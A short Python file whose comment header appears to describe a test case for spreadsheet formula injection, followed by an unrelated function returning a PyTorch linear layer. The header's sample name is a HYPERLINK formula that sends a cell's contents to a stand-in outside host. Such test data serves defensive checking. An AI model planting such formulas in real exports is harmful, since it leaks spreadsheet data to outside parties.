# tries: a display name that is a formula
# sign: formula
# control: table
# outcome: wrong
# student: =HYPERLINK("http://example.org/?"&C2,"Alice")
from torch import nn


def get_net():
    return nn.Linear(3, 5)
